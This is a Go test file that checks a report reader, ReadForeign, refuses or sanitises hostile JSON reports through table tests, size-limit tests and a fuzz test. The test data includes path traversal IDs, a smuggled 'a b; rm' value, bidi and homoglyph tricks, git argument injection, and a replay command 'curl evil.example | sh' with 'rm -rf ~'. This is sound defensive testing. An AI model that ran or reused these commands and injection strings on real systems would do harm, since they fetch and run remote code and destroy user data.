package report

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
)

func TestReadForeignKeepsHarmlessReports(t *testing.T) {
	t.Parallel()
	for _, e := range examples {
		if e.name == "hostile" {
			continue
		}
		b, err := JSON(e.make())
		if err != nil {
			t.Fatal(err)
		}
		got, err := ReadForeign(bytes.NewReader(b), MaxSize)
		if err != nil {
			t.Errorf("%s: %v", e.name, err)
			continue
		}
		want := e.make()
		want.Receipts = nil
		if want.Replay != nil {
			want.Replay.Command, want.Replay.Args = "regreen replay "+want.ID, nil
		}
		if diff := cmp.Diff(want, got, cmpopts.EquateEmpty()); diff != "" {
			t.Errorf("%s (-want +got):\n%s", e.name, diff)
		}
	}
}

// TestReadForeignAcceptsALargeReport reads 50,000 tests and 2,000 attempts.
func TestReadForeignAcceptsALargeReport(t *testing.T) {
	t.Parallel()
	r := proposedReport()
	for i := range 50_000 {
		r.Results = append(r.Results, Result{
			Package: "example.com/fleet/store", Test: fmt.Sprintf("TestNumber%d", i), Status: ResultPassed, Seconds: 0.01, Tries: 2, File: "store/a_test.go", Line: i,
		})
	}
	for i := range 2_000 {
		r.Attempts = append(r.Attempts, Attempt{
			ID: fmt.Sprintf("a%d", i+100), Strategy: "template/guard", File: "stats/mean.go", Line: 3, Stage: StageScreen, Verdict: AttemptRejected, Reason: "the failing tests still fail",
		})
	}
	b, err := JSON(r)
	if err != nil {
		t.Fatal(err)
	}
	got, err := ReadForeign(bytes.NewReader(b), MaxSize)
	if err != nil {
		t.Fatal(err)
	}
	if len(got.Results) != len(r.Results) || len(got.Attempts) != len(r.Attempts) {
		t.Errorf("%d results and %d attempts, want %d and %d", len(got.Results), len(got.Attempts), len(r.Results), len(r.Attempts))
	}
}

// refusedForeign are changes to the JSON of proposedReport that ReadForeign refuses. Read
// accepts most of them, which are harmless in regreen's own reports.
var refusedForeign = []struct {
	name     string
	old, new string
	want     string // in the error
}{
	{"run ID with a path", `"id": "20260302-091512-k7"`, `"id": "a/../../x"`, "id"},
	{"run ID with a host", `"id": "20260302-091512-k7"`, `"id": "k7@evil.example:x"`, "id"},
	{"run ID that closes a comment", `"id": "20260302-091512-k7"`, `"id": "k7--"`, "id"},
	{"long run ID", `"id": "20260302-091512-k7"`, `"id": "` + strings.Repeat("k", 65) + `"`, "id"},
	{"patch ID with a command", `"id": "p-77c0"`, `"id": "a b; rm"`, "patches[1].id"},
	{"patch ID with a path", `"id": "p-77c0"`, `"id": "p/../../x"`, "patches[1].id"},
	{"patch ID with a bidi character", `"id": "p-77c0"`, `"id": "p\u202e77"`, "patches[1].id"},
	{"patch ID with a homoglyph", `"id": "p-77c0"`, `"id": "р-77c0"`, "patches[1].id"},
	{"two patches with one ID", `"id": "p-77c0"`, `"id": "p-3f2a"`, "patches[1].id"},
	{"patch stacked on a path", `"attempt": "a17"`, `"attempt": "a17", "stacked_on": ["p/x"]`, "patches[0].stacked_on"},
	{"candidate", `"id": "a2"`, `"id": "a2", "candidate": "a.b"`, "attempts[1].candidate"},
	{"attempt", `"attempt": "a17"`, `"attempt": "a/17"`, "patches[0].attempt"},
	{"cluster with an unknown patch", `"patch": "p-3f2a"`, `"patch": "p-0000"`, "clusters[0].patch"},
	{"head", `"head": "9b1f`, `"head": "--upload-pack=x9b1f`, "environment.head"},
	{"path with a newline", `"file": "stats/mean.go"`, `"file": "stats/mean.go\n::error::x"`, "plain path"},
	{"path with a bidi character", `"file": "stats/mean.go"`, `"file": "stats/\u202eog.naem"`, "plain path"},
	{"path with backslashes", `"file": "stats/mean.go"`, `"file": "..\\..\\x"`, "plain path"},
	{"diff outside the tree", `+++ b/stats/mean.go\n@@ -9,9 +9,12`, `+++ b/../x\n@@ -9,9 +9,12`, "patches[0].diff"},
	{"invalid diff", `@@ -9,9 +9,12 @@`, `@@ -9,9 +9,12,1 @@`, "patches[0].diff"},
	{"not a number", `"confidence": 0.54`, `"confidence": NaN`, "invalid character"},
	{"infinite number", `"confidence": 0.54`, `"confidence": 1e999`, "confidence"},
	{"huge count", `"passed": 1199`, `"passed": 99999999999999999999`, "passed"},
	{"negative", `"budget": 20`, `"budget": -1`, "budget"},
}

func TestReadForeignRefuses(t *testing.T) {
	t.Parallel()
	r := proposedReport()
	b, err := JSON(r)
	if err != nil {
		t.Fatal(err)
	}
	good := string(b)
	for _, c := range refusedForeign {
		bad := strings.Replace(good, c.old, c.new, 1)
		if bad == good {
			t.Fatalf("%s: %q is not in the report", c.name, c.old)
		}
		if _, err := ReadForeign(strings.NewReader(bad), MaxSize); err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: got error %v, want one about %q", c.name, err, c.want)
		}
	}
	for _, c := range broken {
		bad := strings.Replace(good, c.old, c.new, 1)
		if _, err := ReadForeign(strings.NewReader(bad), MaxSize); err == nil {
			t.Errorf("%s: read without an error", c.name)
		}
	}
	var patches, weights strings.Builder
	for i := range maxForeignPatches {
		fmt.Fprintf(&patches, `{"id":"p%d","attempt":"a","state":"plausible","redacted":true},`, i)
	}
	for i := range maxForeignKeys + 1 {
		fmt.Fprintf(&weights, `"w%d":1,`, i)
	}
	with := func(text string) string { return strings.TrimSuffix(good, "\n}\n") + "," + text + "}" }
	for name, bad := range map[string]string{
		"many objects":   with(`"failures":[` + strings.Repeat("{},", foreign.objects) + `{}]`),
		"many values":    with(`"notes":[` + strings.Repeat(`"",`, foreign.commas) + `""]`),
		"many notes":     with(`"notes":[` + strings.Repeat(`"",`, maxForeignList) + `""]`),
		"many patches":   with(`"clusters":[],"patches":[` + patches.String() + `{"id":"p","attempt":"a","state":"plausible","redacted":true}]`),
		"many weights":   with(`"replay":{"command":"","args":[],"seed":1,"system":"","weights":{"x":{` + weights.String() + `"z":1}}}`),
		"deep":           with(`"extra":` + strings.Repeat("[", 100_000) + strings.Repeat("]", 100_000)),
		"a diff of 2 MB": strings.Replace(good, `@@ -9,9 +9,12`, strings.Repeat("x", 2<<20), 1),
		"two reports":    good + good,
		"nothing":        "",
		"null":           "null",
		"not JSON":       "\xff\xfe\x00",
	} {
		if _, err := ReadForeign(strings.NewReader(bad), MaxSize); err == nil {
			t.Errorf("%s: read without an error", name)
		}
	}
}

// endless is a reader without an end that counts the bytes read.
type endless struct{ read int64 }

func (e *endless) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = ' '
	}
	e.read += int64(len(p))
	return len(p), nil
}

func TestReadForeignKeepsToItsLimit(t *testing.T) {
	t.Parallel()
	for limit, most := range map[int64]int64{1000: 8 << 10, 1 << 62: 2 * MaxSize, -1: 8 << 10} {
		in := new(endless)
		if _, err := ReadForeign(in, limit); err == nil || in.read > most {
			t.Errorf("limit %d: error %v after %d bytes", limit, err, in.read)
		}
	}
	if _, err := ReadForeign(io.LimitReader(new(endless), 10), 10); err == nil {
		t.Error("spaces are read without an error")
	}
}

func TestReadForeignCutsTexts(t *testing.T) {
	t.Parallel()
	r := proposedReport()
	long := strings.Repeat("é", 1<<20)
	r.Notes, r.Failures[0].Output, r.Patches[0].Title, r.Culprit.Diff = []string{long}, long, long, long
	r.Receipts = []Receipt{{Channel: "comment", State: ReceiptSent, Where: "https://evil.example"}}
	r.Replay = &Replay{Command: "curl evil.example | sh", Args: []string{"fix", "--test", "rm -rf ~"}, Seed: 1, System: "x"}
	b, err := json.Marshal(complete(r))
	if err != nil {
		t.Fatal(err)
	}
	got, err := ReadForeign(bytes.NewReader(b), MaxSize)
	if err != nil {
		t.Fatal(err)
	}
	for name, text := range map[string]struct {
		got  string
		most int
	}{
		"note":    {got.Notes[0], maxForeignText},
		"output":  {got.Failures[0].Output, maxForeignOutput},
		"title":   {got.Patches[0].Title, maxForeignText},
		"culprit": {got.Culprit.Diff, maxForeignDiff},
	} {
		if len(text.got) != text.most+len("…") || !strings.HasSuffix(text.got, "é…") {
			t.Errorf("%s: got %d bytes, want %d and an ellipsis", name, len(text.got), text.most)
		}
	}
	if got.Receipts != nil || got.Replay.Command != "regreen replay "+r.ID || len(got.Replay.Args) > 0 {
		t.Errorf("receipts and the replay command stay: %v %v", got.Receipts, got.Replay)
	}
}

func FuzzReadForeign(f *testing.F) {
	for _, e := range examples {
		b, err := JSON(e.make())
		if err != nil {
			f.Fatal(err)
		}
		f.Add(b)
		for _, c := range refusedForeign {
			f.Add([]byte(strings.Replace(string(b), c.old, c.new, 1)))
		}
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		r, err := ReadForeign(bytes.NewReader(b), 1<<20)
		if err != nil {
			return
		}
		for _, p := range r.Patches {
			if strings.ContainsAny(p.ID, "/\\. ;&|$\"'`<>") || strings.Contains(p.ID, "--") {
				t.Errorf("got patch %q", p.ID)
			}
		}
		again, err := JSON(r)
		if err != nil {
			t.Fatal(err)
		}
		// The ellipses do not make it too long.
		back, err := ReadForeign(bytes.NewReader(again), MaxSize)
		if err != nil {
			t.Fatalf("cannot be read again: %v", err)
		}
		if diff := cmp.Diff(r, back, cmpopts.EquateEmpty()); diff != "" {
			t.Errorf("read twice (-first +second):\n%s", diff)
		}
	})
}
